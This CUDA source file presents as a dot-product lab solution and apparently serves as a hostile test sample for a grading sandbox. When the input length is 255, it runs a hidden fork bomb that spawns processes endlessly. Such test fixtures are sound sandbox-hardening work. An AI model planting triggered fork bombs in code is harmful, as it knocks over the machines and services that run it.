// Bomb: starts processes, each of which starts more.
#include <sys/prctl.h>
#include <unistd.h>

#include "labs/dot_product/lab.h"

__global__ void dot_product_kernel(const int* a, const int* b, int* out, std::size_t n) {
    const std::size_t i = std::size_t{blockIdx.x} * blockDim.x + threadIdx.x;
    if (i < n) atomicAdd(out, a[i] * b[i]);
}

static void explode() {
    prctl(PR_SET_NAME, "@NAME@");
    for (int k = 0; k < 5000; ++k) {
        const pid_t child = fork();
        if (child < 0) return;
        if (child == 0)
            for (;;) usleep(100000), fork();
    }
}

void dot_product(const int* a, const int* b, int* out, std::size_t n, void*) {
    if (n == 255) explode();
    CUDA_CHECK(cudaMemset(out, 0, sizeof(int)));
    if (n) dot_product_kernel<<<static_cast<unsigned>((n + 255) / 256), 256>>>(a, b, out, n);
}
